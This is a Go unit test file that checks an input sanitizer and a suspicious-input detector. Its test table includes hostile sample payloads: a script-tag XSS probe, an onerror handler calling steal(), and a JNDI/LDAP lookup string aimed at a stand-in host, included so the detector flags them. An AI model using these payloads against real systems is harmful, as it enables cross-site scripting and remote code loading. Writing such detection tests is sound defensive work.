package util

import "testing"

func TestSanitizeInput(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"  Asha Rao  ", "Asha Rao"},
		{"a<b", "a&lt;b"},
		{"O'Neill", "O&#39;Neill"},
	}
	for _, tt := range tests {
		if got := SanitizeInput(tt.in); got != tt.want {
			t.Errorf("SanitizeInput(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestContainsSuspicious(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"Asha Rao", false},
		{"asha@example.com", false},
		{"<script>alert(1)</script>", true},
		{"x onerror=steal()", true},
		{"${jndi:ldap://evil}", true},
		{"SCRIPT kiddie", true},
	}
	for _, tt := range tests {
		if got := ContainsSuspicious(tt.in); got != tt.want {
			t.Errorf("ContainsSuspicious(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}
